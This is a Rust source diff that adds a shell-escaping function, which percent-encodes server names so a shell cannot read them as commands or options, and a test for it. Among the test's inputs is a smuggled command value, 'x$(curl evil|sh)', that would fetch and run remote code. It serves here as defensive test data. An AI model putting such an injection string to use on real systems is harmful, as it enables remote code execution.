@@ -3,6 +3,8 @@
 //! shown name, `*` and `?` in it, `%2F` for a slash; or `[CONTEXT:]re:REGEX` over
 //! `team/app/component`.
 
+use std::fmt::Write;
+
 use percent_encoding::percent_decode_str;
 use regex::{Regex, RegexBuilder};
 
@@ -204,6 +206,22 @@ pub fn escape(name: &str) -> String {
     out
 }
 
+/// The same for the line of a user's shell, which reads it before we do: a server's name is no
+/// command there.
+pub fn bare(name: &str) -> String {
+    let mut out = String::with_capacity(name.len());
+    for c in name.chars() {
+        let plain = c.is_ascii_alphanumeric() || matches!(c, '.' | '_') || !c.is_ascii();
+        // At the beginning it would be an option.
+        if plain || c == '-' && !out.is_empty() {
+            out.push(c);
+        } else {
+            let _ = write!(out, "%{:02X}", u32::from(c));
+        }
+    }
+    out
+}
+
 /// Which things are wanted: parts from the team down, and the context.
 #[derive(Clone, PartialEq, Eq, Debug)]
 pub struct Scope {
@@ -335,6 +353,26 @@ mod tests {
             let Path::Parts(parts) = Name::parse(&text).unwrap().path else { panic!("{text}") };
             proptest::prop_assert_eq!(parts.component.text(), name);
         }
+    }
+
+    #[test]
+    fn a_bare_name_has_nothing_that_a_shell_takes_for_more_than_a_letter() {
+        let safe = |c: char| c.is_ascii_alphanumeric() || "%._-".contains(c) || !c.is_ascii();
+        let hostile: String = (' '..='~').collect();
+        for name in [
+            &*hostile,
+            "x$(curl evil|sh)",
+            "a b",
+            "~root",
+            "商城 1",
+            "-O",
+            "a-b.c_d",
+        ] {
+            let bare = bare(name);
+            assert!(bare.chars().all(safe) && !bare.starts_with('-'), "{bare}");
+            assert_eq!(Part::new(&bare), Part::exactly(name));
+        }
+        assert_eq!((&*bare("a-b.c_d"), &*bare("商城")), ("a-b.c_d", "商城"));
     }
 
     #[test]
